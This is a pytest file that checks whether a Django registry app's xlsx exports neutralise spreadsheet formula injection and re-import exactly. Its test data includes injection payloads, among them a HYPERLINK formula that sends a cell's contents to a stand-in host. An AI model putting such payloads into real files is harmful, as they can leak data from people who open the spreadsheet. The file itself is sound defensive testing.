"""Issue #11 item 1: text that a spreadsheet would read as a formula (=, +, -, @, also after a
tab) is written as text in every .xlsx export, its characters unchanged, so nothing runs in the
reader's spreadsheet and an export imports back exactly."""

from __future__ import annotations

import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

import jingzhun
from jingzhun.areas.excel import export_workbook as export_areas
from jingzhun.areas.models import Area
from jingzhun.registry import services
from jingzhun.registry.excel import export_workbook, import_workbook
from jingzhun.registry.models import Household, Person
from jingzhun.workbook import RowError, annotate_errors
from jingzhun.workbook.safe import append_row, looks_like_formula
from tests.factories import HouseholdFactory, IncomeFactory, PersonFactory, UserFactory, area_chain
from tests.procedures.builders import assess, meeting_household

HYPERLINK = '=HYPERLINK("http://x/?"&C4,"a")'
PAYLOADS = [HYPERLINK, "+1+1", "-2", "@SUM(A1)", "\t=1"]


def cells_of(content: bytes) -> dict[str, list[openpyxl.cell.Cell]]:
    """Every cell holding one of PAYLOADS (any sheet), by its text."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    found: dict[str, list] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in PAYLOADS:
                    found.setdefault(cell.value, []).append(cell)
    return found


def assert_all_text(content: bytes, expected: list[str] = PAYLOADS) -> None:
    found = cells_of(content)
    assert sorted(found) == sorted(expected)  # every one, with its exact text
    for text, cells in found.items():
        for cell in cells:
            assert (text, cell.data_type, cell.quotePrefix) == (text, "s", True)


# -- the helper


@given(
    lead=st.sampled_from(["", "\t", "\t\t", " "]),
    sign=st.sampled_from(["=", "+", "-", "@"]),
    rest=st.text(
        st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\r"), max_size=40
    ),
)
def test_any_text_starting_like_a_formula_is_written_as_that_text(lead, sign, rest):
    value = lead + sign + rest
    assert looks_like_formula(value)
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    append_row(sheet, [value, "普通", 3, None])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = list(openpyxl.load_workbook(buffer)["x"].iter_rows(values_only=False))[0]
    assert (cells[0].data_type, cells[0].value, cells[0].quotePrefix) == ("s", value, True)
    assert [(c.data_type, c.value) for c in cells[1:3]] == [("s", "普通"), ("n", 3)]


@pytest.mark.parametrize("value", ["普通", "a=1", "1-2", "", None, 5, "【示例】=1"])
def test_other_values_are_left_alone(value):
    assert not looks_like_formula(value)


def test_the_error_file_writes_a_message_as_text(tmp_path):
    target = tmp_path / "errors.xlsx"
    annotate_errors(b"not a workbook", [RowError("户", 2, "", HYPERLINK)], target)
    assert_all_text(target.read_bytes(), [HYPERLINK])


# -- the exports


def formula_registry(village, county_admin) -> list[Household]:
    """One household per payload: as its hamlet, its head's name and its helper's unit."""
    households = []
    for index, payload in enumerate(PAYLOADS):
        household = HouseholdFactory(
            number=f"53252710020100{index + 1:02d}", village=village, hamlet=payload
        )
        PersonFactory(household=household, name=payload, relation="head")
        IncomeFactory(household=household, year=2018, members_count=1)
        services.add_helper(household, {"name": "王五", "unit": payload}, acting_user=county_admin)
        households.append(household)
    return households


def test_the_registry_export_writes_formula_like_text_as_text(village, county_admin):
    formula_registry(village, county_admin)
    content = export_workbook(Household.objects.all(), acting_user=county_admin)
    assert_all_text(content)
    found = cells_of(content)
    assert {c.parent.title for c in found[HYPERLINK]} == {"户", "成员", "帮扶责任人"}


def test_a_registry_export_imports_back_exactly_with_no_change(village, county_admin):
    household = HouseholdFactory(
        number="5325271002010001", village=village, hamlet=HYPERLINK, phone="13800001234"
    )
    PersonFactory(household=household, name="张三", relation="head")
    IncomeFactory(household=household, year=2018, members_count=1, dibao_income=Decimal("1"))
    services.add_helper(household, {"name": "王五", "unit": "@SUM(A1)"}, acting_user=county_admin)
    content = export_workbook(Household.objects.all(), acting_user=county_admin)

    result = import_workbook(content, acting_user=county_admin, name="back.xlsx")

    assert result.errors == []
    assert {t: (n.created, n.updated) for t, n in result.counts.items()} == {
        "户": (0, 0),
        "成员": (0, 0),
        "收入": (0, 0),
        "帮扶责任人": (0, 0),
        "帮扶措施": (0, 0),
    }
    household.refresh_from_db()
    assert household.hamlet == HYPERLINK
    assert list(household.helpers.values_list("unit", flat=True)) == ["@SUM(A1)"]


def test_the_assessment_workbooks_write_formula_like_text_as_text(village, county_admin):
    for payload in PAYLOADS:
        household = meeting_household(village)
        Person.objects.filter(household=household, relation="head").update(name=payload)
    run = assess(village, county_admin)
    client = Client()
    client.force_login(county_admin)

    for name in ("assessment-list-xlsx", "assessment-run-xlsx"):
        response = client.get(reverse(name, args=[run.pk]))
        assert response.status_code == 200
        assert_all_text(response.content)


def test_the_comparison_workbook_writes_formula_like_text_as_text(village, county_admin):
    a = assess(village, county_admin)
    for payload in PAYLOADS:
        household = meeting_household(village)
        Person.objects.filter(household=household, relation="head").update(name=payload)
    b = assess(village, county_admin)
    client = Client()
    client.force_login(county_admin)

    response = client.get(reverse("assessment-compare-xlsx"), {"a": a.pk, "b": b.pk})

    assert response.status_code == 200
    assert_all_text(response.content)


def test_the_area_workbook_writes_formula_like_text_as_text(db):
    for index, payload in enumerate(PAYLOADS):
        village = area_chain(village=f"{index + 210}")
        Area.objects.filter(pk=village.pk).update(name=payload)
    user = UserFactory(role="county_admin", area=Area.objects.get(code="532527000000"))

    assert_all_text(export_areas(acting_user=user))


def test_every_workbook_writer_appends_rows_through_the_helper():
    """A new writer that calls `sheet.append` directly would write "=…" as a formula again."""
    source = Path(jingzhun.__file__).parent
    offenders = []
    for path in sorted(source.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if "openpyxl" not in text or path.name == "safe.py":
            continue
        sheets = {"sheet", "ws", "worksheet", "notes"}
        sheets |= set(re.findall(r"(\w+) = \w+\.create_sheet\(", text))
        pattern = re.compile(
            r"\b(?:{})\.append\(|\bsheets\[[^\]]*\]\.append\(".format("|".join(sheets))
        )
        offenders += [
            f"{path.relative_to(source)}:{number}"
            for number, line in enumerate(text.splitlines(), 1)
            if pattern.search(line)
        ]
    assert offenders == []
